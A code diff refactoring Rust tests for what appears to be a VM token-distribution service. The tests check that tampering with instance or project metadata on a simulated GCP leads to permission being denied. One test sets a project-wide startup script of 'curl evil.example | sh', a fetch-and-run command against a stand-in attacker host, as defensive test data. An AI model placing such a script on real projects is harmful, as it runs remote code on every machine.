@@ -314,23 +314,18 @@ async fn user_data_changed_with_gcloud_add_metadata_is_denied_by_user_data_and_a
     let (world, _server, mut client) = approved_world().await;
     let tampered = world.path("user-data.yaml");
     std::fs::write(&tampered, "#cloud-config\nruncmd:\n- echo bob was here\n").unwrap();
-    let gcloud_config = tempfile::tempdir().unwrap();
     let argument = format!("user-data={}", tampered.display());
     let add_metadata = || {
-        tokendist_testkit::gcpsim::gcloud(
-            world.sim.api,
-            gcloud_config.path(),
-            &[
-                "compute",
-                "instances",
-                "add-metadata",
-                GOOD_VM,
-                "--zone",
-                support::ZONE,
-                "--metadata-from-file",
-                &argument,
-            ],
-        );
+        world.gcloud(&[
+            "compute",
+            "instances",
+            "add-metadata",
+            GOOD_VM,
+            "--zone",
+            support::ZONE,
+            "--metadata-from-file",
+            &argument,
+        ]);
     };
     add_metadata();
     world.assert_decodable(GOOD_VM).await;
@@ -367,18 +362,13 @@ async fn ssh_keys_in_the_instance_metadata_are_denied_by_instance_metadata() {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn project_wide_metadata_change_is_denied_by_audit_log_and_project_metadata() {
     let (world, _server, mut client) = approved_world().await;
-    let gcloud_config = tempfile::tempdir().unwrap();
-    tokendist_testkit::gcpsim::gcloud(
-        world.sim.api,
-        gcloud_config.path(),
-        &[
-            "compute",
-            "project-info",
-            "add-metadata",
-            "--metadata",
-            "startup-script=curl evil.example | sh",
-        ],
-    );
+    world.gcloud(&[
+        "compute",
+        "project-info",
+        "add-metadata",
+        "--metadata",
+        "startup-script=curl evil.example | sh",
+    ]);
     assert_denied(
         world.release(&mut client, GOOD_VM).await,
         Code::PermissionDenied,
